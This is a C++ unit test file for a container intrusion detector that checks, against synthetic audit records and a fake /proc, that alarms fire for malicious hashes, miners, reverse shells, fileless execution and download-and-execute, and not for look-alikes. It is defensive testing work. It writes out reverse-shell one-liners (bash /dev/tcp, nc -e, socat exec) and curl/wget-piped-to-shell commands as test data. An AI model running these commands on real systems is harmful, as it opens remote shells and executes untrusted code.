// malicious_program from literal audit records (SYSCALL, EXECVE, PROCTITLE)
// and a fake /proc read by the real ProcessInspector: each pattern, and the
// look-alikes that must not fire. Also the signature file's parsing.
#define BOOST_TEST_MODULE malicious_program
#include <boost/test/unit_test.hpp>

#include "detect/event_facts.h"
#include "detect/malicious_program.h"
#include "enrich/process_inspector.h"
#include "enrich/sha256.h"
#include "support/audit_text.h"
#include "support/detector_run.h"
#include "support/fake_proc.h"

namespace cshield {
namespace {

using testing::audit_value;
using testing::hex_bytes;
using testing::FakeProc;
using testing::one_event;

constexpr int kPid = 4242, kPpid = 4200;

// The records of a successful execve of `exe` with `argv` (comm: argv[0]'s base name).
std::string exec_records(const std::string& exe, const std::vector<std::string>& argv, std::string comm = "",
                         const std::string& syscall = "59 success=yes exit=0", std::uint64_t path_inode = 0) {
  if (comm.empty()) comm = argv[0].substr(argv[0].rfind('/') + 1);
  const std::string msg = "msg=audit(1764175801.100:77): ";
  std::string r = "type=SYSCALL " + msg + "arch=c000003e syscall=" + syscall + " a0=1 a1=2 a2=3 a3=0 items=2 ppid=" +
                  std::to_string(kPpid) + " pid=" + std::to_string(kPid) +
                  " auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) "
                  "ses=4294967295 comm=" + audit_value(comm) + " exe=" + audit_value(exe) + " key=\"cshield.exec\"\n";
  if (syscall.rfind("59 ", 0) == 0) {
    r += "type=EXECVE " + msg + "argc=" + std::to_string(argv.size());
    for (std::size_t i = 0; i < argv.size(); ++i) r += " a" + std::to_string(i) + "=" + audit_value(argv[i]);
    r += "\n";
  }
  if (path_inode)
    r += "type=PATH " + msg + "item=0 name=" + audit_value(exe) + " inode=" + std::to_string(path_inode) +
         " dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 "
         "cap_frootid=0\n";
  std::string title;
  for (const auto& a : argv) title += (title.empty() ? "" : std::string(1, '\0')) + a;
  r += "type=PROCTITLE " + msg + "proctitle=" + hex_bytes(title) + "\n";
  r += "type=EOE " + msg + "\n";
  return r;
}

struct Run {
  FakeProc proc;
  std::shared_ptr<SignatureDb> db = std::make_shared<SignatureDb>();
  ContainerInfo container = testing::test_container();
  bool host = false;
  bool inspect = true;

  std::uint64_t path_inode = 0;  // the execve's PATH record, when set

  std::vector<Alarm> exec(const std::string& exe, const std::vector<std::string>& argv, const std::string& comm = "",
                          const std::string& syscall = "59 success=yes exit=0") {
    const AuditEvent ev = one_event(exec_records(exe, argv, comm, syscall, path_inode));
    MaliciousProgramDetector d(db);
    std::vector<Alarm> out;
    if (!d.wants(ev)) return out;
    const ProcessInfo p = process_from_event(ev);
    ExecutableHasher hasher(proc);
    ProcessInspector inspector(proc, hasher);
    std::optional<ExecutionFacts> facts;
    if (inspect && ProcessInspector::wants(ev, p)) facts = inspector.inspect(p.pid, p.ppid, p.exe, executed_files(ev));
    EventContext ctx{ev, p, host ? nullptr : &container};
    ctx.execution = facts ? &*facts : nullptr;
    d.evaluate(ctx, out);
    return out;
  }
};

std::vector<std::string> subtypes(const std::vector<Alarm>& alarms) {
  std::vector<std::string> out;
  for (const auto& a : alarms) out.push_back(a.subtype);
  return out;
}

bool has(const std::string& haystack, const std::string& needle) { return haystack.find(needle) != std::string::npos; }

const char* kTcp =
    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
    "   1: 0100007F:9C40 0100007F:115C 01 00000000:00000000 00:00000000 00000000     0        0 5001 1 0 20 4 30 10 -1\n";

}  // namespace

BOOST_AUTO_TEST_CASE(the_shared_exec_rule) {
  const auto rules = MaliciousProgramDetector(nullptr).rules();
  BOOST_REQUIRE(rules.size() == 1u);
  BOOST_TEST(rules[0].to_auditctl() == exec_rule().to_auditctl());
  BOOST_TEST(rules[0].key == "cshield.exec");
}

BOOST_AUTO_TEST_CASE(argv_comes_from_the_execve_record_split_arguments_joined) {
  const auto ev = one_event(
      "type=SYSCALL msg=audit(1764175801.100:78): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 "
      "items=2 ppid=1 pid=2 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 "
      "comm=\"sh\" exe=\"/bin/sh\" key=\"cshield.exec\"\n"
      "type=EXECVE msg=audit(1764175801.100:78): argc=3 a0=\"sh\" a1=\"-c\" a2_len=10 a2[0]=6563686F20 a2[1]=\"hello\"\n"
      "type=EOE msg=audit(1764175801.100:78): \n");
  const auto argv = exec_argv(ev);
  BOOST_REQUIRE(argv.size() == 3u);
  BOOST_TEST(argv[2] == "echo hello");
}

BOOST_AUTO_TEST_CASE(fingerprint_matches_the_hash_of_the_executed_file) {
  Run r;
  r.proc.process(kPid, "/tmp/evil", "EVIL-BYTES");
  r.db = std::make_shared<SignatureDb>(
      SignatureDb::parse(sha256_hex("EVIL-BYTES") + " Linux.Test.Marker\n").db);
  auto alarms = r.exec("/tmp/evil", {"/tmp/evil"});
  BOOST_REQUIRE(alarms.size() == 1u);
  BOOST_TEST(alarms[0].type == "malicious_program");
  BOOST_TEST(alarms[0].subtype == "fingerprint");
  BOOST_TEST(alarms[0].severity == "critical");
  BOOST_TEST(alarms[0].syscall == "execve");
  BOOST_TEST(has(alarms[0].evidence_json, "\"signature\":\"Linux.Test.Marker\""));
  BOOST_TEST(has(alarms[0].evidence_json, "\"sha256\":\"" + sha256_hex("EVIL-BYTES") + "\""));
  BOOST_TEST(has(alarms[0].description, "Stop the container"));

  // The same file under another name: still its hash.
  r.proc.process(kPid, "/usr/local/bin/innocent", "EVIL-BYTES");
  BOOST_TEST(subtypes(r.exec("/usr/local/bin/innocent", {"innocent"})) == std::vector<std::string>{"fingerprint"});
  // Another file: nothing.
  r.proc.process(kPid, "/bin/ls", "LS-BYTES");
  BOOST_TEST(r.exec("/bin/ls", {"ls"}).empty());
}

BOOST_AUTO_TEST_CASE(a_process_that_executed_another_program_since_is_not_judged_by_it) {
  // `sh -c "... && /tmp/evil"`: busybox sh executes its last command in
  // place, so when the shell's execve is read /proc/<pid>/exe is already
  // the next program, a memfd here.
  Run r;
  r.proc.process(kPid, "/memfd:payload (deleted)", "EVIL-BYTES");
  r.db = std::make_shared<SignatureDb>(SignatureDb::parse(sha256_hex("EVIL-BYTES") + " Evil\n").db);
  BOOST_TEST(r.exec("/bin/busybox", {"sh", "-c", "/tmp/evil"}, "sh").empty());
  BOOST_TEST(subtypes(r.exec("/memfd:payload (deleted)", {"x"})) == (std::vector<std::string>{"fingerprint", "fileless"}));
  // Its own executable deleted since: still itself.
  r.proc.process(kPid, "/tmp/evil (deleted)", "EVIL-BYTES");
  BOOST_TEST(subtypes(r.exec("/tmp/evil", {"evil"})) == (std::vector<std::string>{"fingerprint", "fileless"}));
}

BOOST_AUTO_TEST_CASE(a_gone_process_is_hashed_through_its_parents_root_only_when_the_inode_matches) {
  Run r;
  r.db = std::make_shared<SignatureDb>(SignatureDb::parse(sha256_hex("EVIL-BYTES") + " Evil\n").db);
  // Process 4242 is gone; its parent 4200 (same container) is alive and sees
  // /tmp/evil in its root. device 64769 is fd:01.
  FakeProc::Exe file;
  file.identity = {64769, 77, 10, 1};
  file.contents = "EVIL-BYTES";
  r.proc.executables["/proc/4200/root/tmp/evil"] = file;
  r.path_inode = 77;
  auto a = r.exec("/tmp/evil", {"evil"});
  BOOST_REQUIRE(a.size() == 1u);
  BOOST_TEST(a[0].subtype == "fingerprint");
  BOOST_TEST(has(a[0].evidence_json, "\"process_gone\":true"));
  BOOST_TEST(has(a[0].evidence_json, "\"hash_source\":\"/proc/4200/root/tmp/evil\""));

  // Another inode at that path (replaced since): not hashed, and said so.
  r.path_inode = 78;
  r.db = std::make_shared<SignatureDb>(SignatureDb::parse(sha256_hex("x") + " X\n").db);
  r.proc.executables["/proc/4200/root/tmp/xmrig"] = file;
  a = r.exec("/tmp/xmrig", {"xmrig"});
  BOOST_REQUIRE(a.size() == 1u);
  BOOST_TEST(has(a[0].evidence_json, "\"sha256\":null"));
  BOOST_TEST(has(a[0].evidence_json, "no longer the one executed"));
  // No PATH record: nothing to check against, no hash.
  r.path_inode = 0;
  a = r.exec("/tmp/xmrig", {"xmrig"});
  BOOST_REQUIRE(a.size() == 1u);
  BOOST_TEST(has(a[0].evidence_json, "\"hash_unavailable\":\"process gone before its executable could be read\""));
}

BOOST_AUTO_TEST_CASE(host_and_runtime_processes_raise_nothing) {
  Run r;
  r.proc.process(kPid, "/tmp/xmrig", "x");
  r.host = true;
  BOOST_TEST(r.exec("/tmp/xmrig", {"xmrig", "-o", "stratum+tcp://pool:3333"}).empty());
  r.host = false;
  r.proc.process(kPid, "/memfd:runc_cloned:/usr/sbin/runc (deleted)", "runc");
  BOOST_TEST(r.exec("/memfd:runc_cloned:/usr/sbin/runc (deleted)", {"runc", "init"}, "runc:[2:INIT]").empty());
}

BOOST_AUTO_TEST_CASE(a_process_gone_before_inspection_says_so_in_the_evidence) {
  Run r;  // nothing in /proc
  r.db = std::make_shared<SignatureDb>(SignatureDb::parse(sha256_hex("x") + " X\n").db);
  auto alarms = r.exec("/opt/xmrig", {"xmrig"});
  BOOST_REQUIRE(alarms.size() == 1u);
  BOOST_TEST(alarms[0].subtype == "miner");
  BOOST_TEST(has(alarms[0].evidence_json, "\"sha256\":null"));
  BOOST_TEST(has(alarms[0].evidence_json, "\"hash_unavailable\":\"process gone before its executable could be read\""));
  BOOST_TEST(has(alarms[0].evidence_json, "\"process_gone\":true"));
}

BOOST_AUTO_TEST_CASE(miners_by_name_and_arguments) {
  Run r;
  auto a = r.exec("/opt/xmrig", {"./xmrig", "--threads=2"});
  BOOST_REQUIRE(a.size() == 1u);
  BOOST_TEST(a[0].subtype == "miner");
  BOOST_TEST(has(a[0].evidence_json, "\"pattern\":\"miner program name\",\"matched\":\"xmrig\""));

  a = r.exec("/tmp/.x/kworker", {"kworker", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet"});
  BOOST_REQUIRE(a.size() == 1u);
  BOOST_TEST(has(a[0].evidence_json, "\"matched\":\"-o stratum+tcp://pool.example:3333\""));
  BOOST_TEST(subtypes(r.exec("/tmp/k", {"k", "--url=stratum+ssl://p:443"})) == std::vector<std::string>{"miner"});
  // The scheme in any case; "://" within the first 20 bytes.
  BOOST_TEST(subtypes(r.exec("/tmp/k", {"k", "-o", "STRATUM+TCP://pool:3333"})) == std::vector<std::string>{"miner"});
  BOOST_TEST(subtypes(r.exec("/tmp/k", {"k", "-oStRaTuM1+tcp://p:1"})) == std::vector<std::string>{"miner"});
  BOOST_TEST(subtypes(r.exec("/tmp/k", {"k", "--url=stratum+ssl+extra-x://p:443"})) == std::vector<std::string>{"miner"});
  BOOST_TEST(r.exec("/tmp/k", {"k", "--url=stratum+ssl+extra-xy://p:443"}).empty());
  BOOST_TEST(r.exec("/tmp/k", {"k", "-o", "stratu://pool:3333"}).empty());
  BOOST_TEST(r.exec("/tmp/k", {"k", "-o", "strat"}).empty());
  a = r.exec("/tmp/k", {"k", "--donate-level", "1"});
  BOOST_REQUIRE(a.size() == 1u);
  BOOST_TEST(has(a[0].evidence_json, "\"matched\":\"--donate-level 1\""));

  // Look-alikes: a file named after a miner being read, a documentation
  // program, a URL merely printed.
  BOOST_TEST(r.exec("/bin/cat", {"cat", "xmrig.txt"}).empty());
  BOOST_TEST(r.exec("/usr/bin/xmrig-docs", {"xmrig-docs", "--help"}).empty());
  BOOST_TEST(r.exec("/bin/echo", {"echo", "stratum+tcp://pool:3333"}).empty());
  BOOST_TEST(r.exec("/usr/bin/less", {"less", "/etc/xmrig/config.json"}).empty());
}

BOOST_AUTO_TEST_CASE(reverse_shell_a_shell_on_a_network_socket) {
  Run r;
  r.proc.process(kPid, "/bin/busybox", "bb");
  r.proc.fd(kPid, 0, "socket:[5001]");
  r.proc.fd(kPid, 1, "socket:[5001]");
  r.proc.files["/proc/4242/net/tcp"] = kTcp;
  auto a = r.exec("/bin/busybox", {"sh"}, "sh");
  BOOST_REQUIRE(a.size() == 1u);
  BOOST_TEST(a[0].subtype == "reverse_shell");
  BOOST_TEST(a[0].name == "Malicious container program: reverse shell");
  BOOST_TEST(has(a[0].evidence_json, "\"pattern\":\"shell stdin is a network socket\""));
  BOOST_TEST(has(a[0].evidence_json, "\"matched\":\"tcp 127.0.0.1:40000 -> 127.0.0.1:4444\""));
  BOOST_TEST(has(a[0].evidence_json, "\"socket\":\"socket:[5001]\""));

  // Not a shell: a program talking to the network on stdin is no alarm.
  BOOST_TEST(r.exec("/bin/busybox", {"cat"}, "cat").empty());
}

BOOST_AUTO_TEST_CASE(a_shell_in_a_pipe_or_on_a_unix_socket_is_no_reverse_shell) {
  Run r;
  r.proc.process(kPid, "/bin/sh", "sh");
  r.proc.fd(kPid, 0, "pipe:[900]");
  r.proc.fd(kPid, 1, "pipe:[901]");
  BOOST_TEST(r.exec("/bin/sh", {"sh"}).empty());
  r.proc.fd(kPid, 0, "socket:[7000]");  // a unix socket: in no TCP/UDP table
  r.proc.files["/proc/4242/net/tcp"] = kTcp;
  BOOST_TEST(r.exec("/bin/sh", {"sh"}).empty());
}

BOOST_AUTO_TEST_CASE(reverse_shell_command_lines) {
  Run r;
  BOOST_TEST(subtypes(r.exec("/bin/nc", {"nc", "-e", "/bin/sh", "10.0.0.5", "4444"})) ==
             std::vector<std::string>{"reverse_shell"});
  BOOST_TEST(subtypes(r.exec("/bin/busybox", {"nc", "10.0.0.5", "4444", "-e", "sh"}, "nc")) ==
             std::vector<std::string>{"reverse_shell"});
  BOOST_TEST(subtypes(r.exec("/bin/busybox", {"busybox", "nc", "10.0.0.5", "4444", "-e", "sh"}, "busybox")) ==
             std::vector<std::string>{"reverse_shell"});
  BOOST_TEST(r.exec("/bin/busybox", {"busybox", "nc", "-l", "-p", "4444"}, "busybox").empty());
  BOOST_TEST(subtypes(r.exec("/usr/bin/ncat", {"ncat", "--sh-exec", "sh", "10.0.0.5", "4444"})) ==
             std::vector<std::string>{"reverse_shell"});
  BOOST_TEST(subtypes(r.exec("/usr/bin/nc", {"nc", "-nve", "/bin/bash", "10.0.0.5", "4444"})) ==
             std::vector<std::string>{"reverse_shell"});
  auto a = r.exec("/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"});
  BOOST_REQUIRE(a.size() == 1u);
  BOOST_TEST(has(a[0].evidence_json, "\"matched\":\"bash -i >& /dev/tcp/10.0.0.5/4444 0>&1\""));
  BOOST_TEST(subtypes(r.exec("/usr/bin/socat", {"socat", "exec:bash -li,pty,stderr", "tcp:10.0.0.5:4444"})) ==
             std::vector<std::string>{"reverse_shell"});

  // nc without -e, a listener, socat without exec.
  BOOST_TEST(r.exec("/bin/nc", {"nc", "10.0.0.5", "80"}).empty());
  BOOST_TEST(r.exec("/bin/nc", {"nc", "-l", "-p", "4444"}).empty());
  BOOST_TEST(r.exec("/bin/nc", {"nc", "-lvp", "4444"}).empty());
  BOOST_TEST(r.exec("/usr/bin/socat", {"socat", "tcp-listen:80", "tcp:10.0.0.5:80"}).empty());
  BOOST_TEST(r.exec("/bin/grep", {"grep", "-e", "/dev/tcp/", "notes.txt"}).empty());
}

BOOST_AUTO_TEST_CASE(fileless_memfd_and_deleted_executables) {
  Run r;
  r.proc.process(kPid, "/memfd:payload (deleted)", "PAYLOAD");
  auto a = r.exec("/memfd:payload (deleted)", {"payload"});
  BOOST_REQUIRE(a.size() == 1u);
  BOOST_TEST(a[0].subtype == "fileless");
  BOOST_TEST(has(a[0].evidence_json, "\"matched\":\"/memfd:payload (deleted)\""));
  BOOST_TEST(has(a[0].evidence_json, "\"sha256\":\"" + sha256_hex("PAYLOAD") + "\""));

  // Any audited call of a process whose executable was deleted after it
  // started: here a ptrace (syscall 101) of /usr/bin/agent (deleted).
  r.proc.process(kPid, "/usr/bin/agent (deleted)", "A");
  a = r.exec("/usr/bin/agent (deleted)", {"agent"}, "", "101 success=yes exit=0");
  BOOST_REQUIRE(a.size() == 1u);
  BOOST_TEST(a[0].subtype == "fileless");
  BOOST_TEST(a[0].syscall == "ptrace");
  BOOST_TEST(has(a[0].evidence_json, "executable deleted after start"));

  // Not deleted, not memfd: nothing; nor a path merely containing the words.
  r.proc.process(kPid, "/opt/memfd:tools/run", "R");
  BOOST_TEST(r.exec("/opt/memfd:tools/run", {"run"}).empty());
}

BOOST_AUTO_TEST_CASE(execution_from_dev_shm) {
  Run r;
  auto a = r.exec("/dev/shm/.x/dropper", {"./dropper"});
  BOOST_REQUIRE(a.size() == 1u);
  BOOST_TEST(a[0].subtype == "shm_exec");
  BOOST_TEST(has(a[0].evidence_json, "\"matched\":\"/dev/shm/.x/dropper\""));
  BOOST_TEST(r.exec("/dev/shmtools/run", {"run"}).empty());
  BOOST_TEST(r.exec("/bin/cat", {"cat", "/dev/shm/notes"}).empty());
}

BOOST_AUTO_TEST_CASE(download_and_execute_in_the_command_line) {
  Run r;
  auto a = r.exec("/bin/sh", {"sh", "-c", "curl -fsSL http://x.example/i.sh | sh"});
  BOOST_REQUIRE(a.size() == 1u);
  BOOST_TEST(a[0].subtype == "download_execute");
  BOOST_TEST(has(a[0].evidence_json, "\"pattern\":\"downloader piped into a shell\""));
  BOOST_TEST(subtypes(r.exec("/bin/sh", {"sh", "-c", "wget -q -O- http://x/i | sudo bash -s -- --yes"})) ==
             std::vector<std::string>{"download_execute"});
  BOOST_TEST(subtypes(r.exec("/bin/bash", {"bash", "-c", "curl -s http://x/i.sh 2>&1 | bash"})) ==
             std::vector<std::string>{"download_execute"});
  BOOST_TEST(subtypes(r.exec("/bin/bash", {"bash", "-c", "wget -O- http://x/i.sh |& bash"})) ==
             std::vector<std::string>{"download_execute"});
  BOOST_TEST(subtypes(r.exec("/bin/bash", {"bash", "-c", "bash <(curl -s http://x/i.sh)"})) ==
             std::vector<std::string>{"download_execute"});

  // Look-alikes: download to a file, download piped into a non-shell, a
  // local script piped into a shell, an "or" rather than a pipe.
  BOOST_TEST(r.exec("/usr/bin/curl", {"curl", "-o", "i.sh", "http://x/i.sh"}).empty());
  BOOST_TEST(r.exec("/bin/sh", {"sh", "-c", "curl -s http://x/ | grep version"}).empty());
  BOOST_TEST(r.exec("/bin/sh", {"sh", "-c", "cat local.sh | sh"}).empty());
  BOOST_TEST(r.exec("/bin/sh", {"sh", "-c", "curl -s http://x/ || sh fallback.sh"}).empty());
  BOOST_TEST(r.exec("/bin/sh", {"sh", "-c", "curl -s http://x/ > f & sh local.sh"}).empty());
}

BOOST_AUTO_TEST_CASE(download_and_execute_between_siblings_sharing_a_pipe) {
  Run r;
  // Parent 4200 runs `curl URL | sh` typed at an interactive shell.
  r.proc.process(4243, "/usr/bin/curl", "c");
  r.proc.files["/proc/4243/comm"] = "curl\n";
  r.proc.files["/proc/4243/cmdline"] = std::string("curl\0-s\0http://x/i.sh\0", 23);
  r.proc.fd(4243, 1, "pipe:[900]");
  r.proc.process(kPid, "/bin/sh", "s");
  r.proc.fd(kPid, 0, "pipe:[900]");
  r.proc.files["/proc/4200/task/4200/children"] = "4242 4243";
  auto a = r.exec("/bin/sh", {"sh"});
  BOOST_REQUIRE(a.size() == 1u);
  BOOST_TEST(a[0].subtype == "download_execute");
  BOOST_TEST(has(a[0].evidence_json, "\"matched\":\"curl -s http://x/i.sh\""));
  BOOST_TEST(has(a[0].evidence_json, "\"peer\":{\"pid\":4243"));

  // The other way round: curl's exec seen after the shell's.
  r.proc.process(kPid, "/usr/bin/curl", "c");  // now pid 4242 is curl writing into the pipe a sh reads
  r.proc.fd(kPid, 0, "/dev/null");
  r.proc.fd(kPid, 1, "pipe:[900]");
  r.proc.fd(4243, 0, "pipe:[900]");
  r.proc.fd(4243, 1, "/dev/null");
  r.proc.files["/proc/4243/comm"] = "sh\n";
  r.proc.files["/proc/4243/cmdline"] = std::string("sh\0", 3);
  BOOST_TEST(subtypes(r.exec("/usr/bin/curl", {"curl", "-s", "http://x/i.sh"})) ==
             std::vector<std::string>{"download_execute"});

  // A shell reading a pipe that cat writes: nothing.
  r.proc.process(kPid, "/bin/sh", "s");
  r.proc.fd(kPid, 0, "pipe:[900]");
  r.proc.fd(kPid, 1, "/dev/null");
  r.proc.fd(4243, 0, "/dev/null");
  r.proc.fd(4243, 1, "pipe:[900]");
  r.proc.files["/proc/4243/comm"] = "cat\n";
  r.proc.files["/proc/4243/cmdline"] = std::string("cat\0local.sh\0", 13);
  BOOST_TEST(r.exec("/bin/sh", {"sh"}).empty());
}

BOOST_AUTO_TEST_CASE(an_ordinary_shell_command_raises_nothing) {
  Run r;
  r.proc.process(kPid, "/bin/busybox", "bb");
  r.proc.fd(kPid, 0, "/dev/null");
  r.proc.fd(kPid, 1, "pipe:[12]");
  BOOST_TEST(r.exec("/bin/busybox", {"sh", "-c", "ls; cat /etc/os-release"}, "sh").empty());
  BOOST_TEST(r.exec("/bin/busybox", {"ls", "-l", "/"}, "ls").empty());
  // A failed execve is not wanted at all.
  BOOST_TEST(r.exec("/bin/xmrig", {"xmrig"}, "", "59 success=no exit=-2").empty());
}

BOOST_AUTO_TEST_CASE(signature_file_lines) {
  const std::string good = sha256_hex("a"), other = sha256_hex("b");
  std::string upper = other;
  for (auto& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
  const auto p = SignatureDb::parse("# known bad\n\n" + good + " Linux.Miner.Xmrig\n" + upper +
                                    "\tEICAR like test file  \n" + good + " again\n");
  BOOST_TEST(p.errors.empty());
  BOOST_TEST(p.db.size() == 2u);
  BOOST_REQUIRE(p.db.find(good));
  BOOST_TEST(*p.db.find(good) == "Linux.Miner.Xmrig");
  BOOST_REQUIRE(p.db.find(other));
  BOOST_TEST(*p.db.find(other) == "EICAR like test file");
  BOOST_REQUIRE(p.warnings.size() == 1u);
  BOOST_TEST(p.warnings[0].line == 5);
}

BOOST_AUTO_TEST_CASE(signature_file_errors_carry_their_line) {
  const std::string good = sha256_hex("a");
  const auto p = SignatureDb::parse(good + " ok\n" + "abc123 short\n" + good.substr(0, 63) + "g bad-digit\n" + good +
                                    "\n" + good + "00 long\n");
  BOOST_REQUIRE(p.errors.size() == 4u);
  BOOST_TEST(p.errors[0].line == 2);
  BOOST_TEST(has(p.errors[0].text, "6 hex digits, not 64"));
  BOOST_TEST(p.errors[1].line == 3);
  BOOST_TEST(has(p.errors[1].text, "other than hex digits"));
  BOOST_TEST(p.errors[2].line == 4);
  BOOST_TEST(has(p.errors[2].text, "no name"));
  BOOST_TEST(p.errors[3].line == 5);
  BOOST_TEST(has(p.errors[3].text, "66 hex digits"));
  BOOST_TEST(p.db.size() == 1u);
}

}  // namespace cshield
